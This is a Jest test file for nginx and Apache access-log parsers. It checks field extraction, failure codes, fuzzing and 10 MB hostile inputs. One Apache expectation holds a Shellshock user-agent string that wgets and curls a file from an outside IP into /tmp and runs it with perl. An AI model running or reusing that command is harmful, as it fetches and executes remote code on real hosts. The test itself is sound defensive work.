import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ParsedEvent, SourceContext } from '../../../src/parse/types';
import type { AccessLogModule } from '../../../src/parsers/access-log';
import { createAccessLogParser, parseAccessLog } from '../../../src/parsers/access-log';
import { at, failureOf, repeats } from '../support/large-values';

const RECEIVED_AT = Date.UTC(2024, 4, 1, 12, 0, 0);
const SOURCE: SourceContext = { timeZone: 'Asia/Ho_Chi_Minh', receivedAt: RECEIVED_AT };

function lines(fixture: string): string[] {
  return readFileSync(join(__dirname, 'fixtures', fixture), 'utf8').split('\n').filter((line) => line.length > 0);
}

function parsed(text: string, module: AccessLogModule = 'nginx'): ParsedEvent {
  const outcome = createAccessLogParser({ module })(text, SOURCE);
  if (!outcome.ok) throw new Error(`${outcome.failure.code}: ${outcome.failure.message}`);
  return outcome.event;
}

describe('access log parsers on lines the servers wrote', () => {
  it.each([
    ...lines('nginx.log').map((line, i) => [`nginx.log#${i + 1}`, 'nginx', line] as const),
    ...lines('apache.log').map((line, i) => [`apache.log#${i + 1}`, 'apache', line] as const),
  ])('%s parses to a web access event', (_name, module, line) => {
    const event = parsed(line, module);
    expect(event.event).toMatchObject({ kind: 'event', category: ['web'], type: ['access'], module, dataset: `${module}.access` });
    expect(event.message).toBe(line);
    expect(event['@timestamp']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.000Z$/);
    expect(event.source?.address).toBeDefined();
  });

  it('reads nginx combined lines', () => {
    const [first, favicon, notModified, withHost] = lines('nginx.log').map((line) => parsed(line));
    expect(first).toEqual({
      '@timestamp': '2016-10-25T12:49:33.000Z',
      message: lines('nginx.log')[0],
      event: { kind: 'event', category: ['web'], type: ['access'], module: 'nginx', dataset: 'nginx.access', outcome: 'success' },
      source: { address: '77.179.66.156', ip: '77.179.66.156' },
      url: { original: '/', path: '/' },
      http: { version: '1.1', request: { method: 'GET' }, response: { status_code: 200, body: { bytes: 612 } } },
      user_agent: { original: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_12_0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/54.0.2840.59 Safari/537.36' },
    });
    expect(favicon).toMatchObject({ event: { outcome: 'failure' }, http: { request: { referrer: 'http://localhost:8080/' }, response: { status_code: 404 } } });
    expect(notModified).toMatchObject({ event: { outcome: 'success' }, http: { response: { status_code: 304, body: { bytes: 0 } } } });
    expect(withHost).toMatchObject({
      destination: { domain: 'lessons.example.com' },
      source: { ip: '192.168.0.1' },
      url: { domain: 'lessons.example.com', path: '/A%20Beka%20G1%20Howe/029_AND_30/15%20reading%20elephants.mp4' },
      http: { response: { status_code: 206, body: { bytes: 7648063 } } },
    });
  });

  it('reads forwarded-for lists, trailing fields and requests that are no request line', () => {
    const [, , , , list, main, quotedList, ipv6List, empty, unix, tls] = lines('nginx.log').map((line) => parsed(line));
    expect(list).toMatchObject({ source: { ip: '10.0.0.2' }, nginx: { access: { remote_ip_list: ['10.0.0.2', '10.0.0.1', '127.0.0.1'] } } });
    expect(main).toMatchObject({ source: { ip: '172.17.0.1' }, nginx: { access: { extra: '"-"' } } });
    expect(quotedList).toMatchObject({ source: { ip: '10.5.102.222' }, url: { path: '/assets/xxxx', query: 'q=100' }, nginx: { access: { remote_ip_list: ['10.5.102.222', '199.96.1.1', '204.246.1.1', '10.2.1.185'] } } });
    expect(ipv6List).toMatchObject({ source: { ip: '2a03:0000:10ff:f00f:0000:0000:0:8000' } });
    expect(empty).toMatchObject({ event: { outcome: 'failure' }, http: { response: { status_code: 400, body: { bytes: 0 } } } });
    expect(empty).not.toHaveProperty('nginx');
    expect(unix).toMatchObject({ source: { address: 'unix:' }, destination: { domain: 'example.com', port: 80 }, nginx: { access: { request: 'hello' } } });
    expect(tls).toMatchObject({ source: { ip: '172.68.244.173' }, http: { response: { status_code: 400 } } });
    expect(String((tls.nginx as { access: { request: string } }).access.request)).toMatch(/^\\x16\\x03\\x01\\x00\\xEC/);
    for (const event of [empty, unix, tls]) {
      expect(event).not.toHaveProperty('url.original');
      expect(event).not.toHaveProperty('http.request.method');
    }
  });

  it('reads Apache common, combined and vhost_combined lines', () => {
    const [common, combined, ipv6, timeout, hostname, vhost, shellshock, bytes] = lines('apache.log').map((line) => parsed(line, 'apache'));
    expect(common).toEqual({
      '@timestamp': '2000-10-10T20:55:36.000Z',
      message: lines('apache.log')[0],
      event: { kind: 'event', category: ['web'], type: ['access'], module: 'apache', dataset: 'apache.access', outcome: 'success' },
      source: { address: '127.0.0.1', ip: '127.0.0.1' },
      user: { name: 'frank' },
      url: { original: '/apache_pb.gif', path: '/apache_pb.gif' },
      http: { version: '1.0', request: { method: 'GET' }, response: { status_code: 200, body: { bytes: 2326 } } },
    });
    expect(combined).toMatchObject({ http: { request: { referrer: 'http://www.example.com/start.html' } }, user_agent: { original: 'Mozilla/4.08 [en] (Win98; I ;Nav)' } });
    expect(ipv6).toMatchObject({ source: { ip: '::1' }, '@timestamp': '2016-12-26T14:16:29.000Z' });
    expect(timeout).toMatchObject({ source: { ip: '::1' }, event: { outcome: 'failure' }, http: { response: { status_code: 408 } } });
    expect(timeout).not.toHaveProperty('http.response.body');
    expect(timeout).not.toHaveProperty('apache');
    expect(hostname).toMatchObject({ source: { address: 'monitoring-server', domain: 'monitoring-server' } });
    expect(hostname).not.toHaveProperty('source.ip');
    expect(vhost).toMatchObject({ source: { ip: '123.123.123.123' }, destination: { domain: 'vhost1.domaine.fr' }, url: { domain: 'vhost1.domaine.fr' } });
    expect(shellshock.user_agent).toEqual({ original: '() { :;}; /bin/bash -c "cd /tmp;wget http://185.28.190.69/mc;curl -O http://185.28.190.69/mc;perl mc;perl /tmp/mc"' });
    expect(bytes).toMatchObject({ url: { original: '/images/q2.gie\\xa7\\xb1\\xb7\\xf7,' }, http: { version: '1.1' }, apache: { access: { extra: '"-"' } } });
  });
});

describe('which server wrote the line', () => {
  const line = lines('apache.log')[1]!;

  it('is the configured module', () => {
    expect(createAccessLogParser({ module: 'apache' })(line, { ...SOURCE, topic: '/var/log/nginx/access.log' })).toMatchObject({ ok: true, event: { event: { module: 'apache', dataset: 'apache.access' } } });
  });

  it('is read from the source path or topic when not configured', () => {
    expect(parseAccessLog(line, { ...SOURCE, topic: '/var/log/nginx/access.log' })).toMatchObject({ event: { event: { module: 'nginx', dataset: 'nginx.access' } } });
    expect(parseAccessLog(line, { ...SOURCE, topic: '/var/log/apache2/access.log' })).toMatchObject({ event: { event: { module: 'apache', dataset: 'apache.access' } } });
    expect(parseAccessLog(line, { ...SOURCE, topic: '/var/log/httpd/access_log' })).toMatchObject({ event: { event: { module: 'apache' } } });
  });

  it('is left unsaid when nothing tells, the event still fitting the webserver logsource', () => {
    for (const source of [SOURCE, { ...SOURCE, topic: '/srv/logs/web.log' }, { ...SOURCE, topic: '/etc/nginx-to-apache/access.log' }]) {
      const outcome = parseAccessLog(line, source);
      expect(outcome).toMatchObject({ ok: true, event: { event: { category: ['web'], type: ['access'], dataset: 'web.access' } } });
      expect(outcome.ok && outcome.event.event.module).toBeUndefined();
    }
  });
});

describe('access log failures', () => {
  it('says HALONG_PARSE_EMPTY, HALONG_PARSE_ACCESS_LOG or HALONG_PARSE_TIME with a reason', () => {
    expect(parseAccessLog('\r\n', SOURCE)).toEqual({ ok: false, failure: { code: 'HALONG_PARSE_EMPTY', message: 'The message is empty.' } });
    expect(parseAccessLog('<134>Sep 19 08:26:10 host sshd[1]: Accepted password', SOURCE)).toEqual({ ok: false, failure: { code: 'HALONG_PARSE_ACCESS_LOG', message: 'Not an access log line: No [time] field.' } });
    expect(parseAccessLog('[10/Aug/2018:09:45:56 +0200] 172.30.0.119 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 "GET / HTTP/1.1" 1375', SOURCE)).toMatchObject({ ok: false, failure: { code: 'HALONG_PARSE_ACCESS_LOG' } });
    expect(parseAccessLog('1.2.3.4 - - [10/Oct/2000:13:55:36] "GET / HTTP/1.0" 200 1', SOURCE)).toEqual({
      ok: false,
      failure: { code: 'HALONG_PARSE_TIME', message: 'The access log time "10/Oct/2000:13:55:36" is not dd/Mon/yyyy:HH:mm:ss ±hhmm.' },
    });
  });

  it('reads lines ending in CRLF', () => {
    expect(parseAccessLog(`${lines('apache.log')[0]}\r\n`, SOURCE)).toMatchObject({ ok: true, event: { message: lines('apache.log')[0] } });
  });

  it('never throws, whatever the text', () => {
    const samples = lines('nginx.log').concat(lines('apache.log'));
    let seed = 7;
    const random = () => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed / 2 ** 31;
    };
    for (let i = 0; i < 2000; i += 1) {
      const base = samples[i % samples.length]!;
      const cut = Math.floor(random() * base.length);
      const noise = String.fromCharCode(...Array.from({ length: 6 }, () => Math.floor(random() * 0x80)));
      expect(() => parseAccessLog(base.slice(0, cut) + noise + base.slice(cut + Math.floor(random() * 10)), SOURCE)).not.toThrow();
    }
  }, 30_000);

  // 10 MB (collector.maxMessageBytes has no ceiling), so that a scanner recursing or backtracking
  // per character would fail here, not on a relay: each line comes out whole or is refused with
  // its reason. Their speed is measured by `npm run bench -w collectors` (section hostile).
  it('parses or refuses 10 MB lines of hostile shapes, whole', () => {
    const mb10 = 10 * 1024 * 1024;
    const http = { version: '1.1', request: { method: 'GET' }, response: { status_code: 200, body: { bytes: 1 } } };
    const longPath = parsed(`10.0.0.1 - - [01/May/2024:07:00:00 +0700] "GET /${'a'.repeat(mb10)} HTTP/1.1" 200 1 "-" "curl"`);
    expect([longPath.http, longPath.user_agent]).toEqual([http, { original: 'curl' }]);
    expect(repeats(at(longPath, 'url.path'), 'a', '/')).toBe(mb10);

    const escapedAgent = parsed(`10.0.0.1 - - [01/May/2024:07:00:00 +0700] "GET / HTTP/1.1" 200 1 "-" "${'\\" '.repeat(mb10 / 3)}"`);
    expect([escapedAgent.http, escapedAgent.url]).toEqual([http, { original: '/', path: '/' }]);
    // Every \" is an escaped quote inside the field, not its end.
    expect(repeats(at(escapedAgent, 'user_agent.original'), '" ')).toBe(Math.floor(mb10 / 3));

    const refused = (reason: string) => ({ code: 'HALONG_PARSE_ACCESS_LOG', message: `Not an access log line: ${reason}` });
    expect(failureOf(parseAccessLog(`10.0.0.1 - - [01/May/2024:07:00:00 +0700] "${'"x'.repeat(mb10 / 2)}`, SOURCE))).toEqual(refused('No quoted "request" after the [time] field.'));
    expect(failureOf(parseAccessLog(`${'\n'.repeat(mb10)}x`, SOURCE))).toEqual(refused('No [time] field.'));
    expect(failureOf(parseAccessLog(`10.0.0.1 - - [${'x'.repeat(mb10)}`, SOURCE))).toEqual(refused('The [time] field is not closed.'));
  }, 120_000);
});
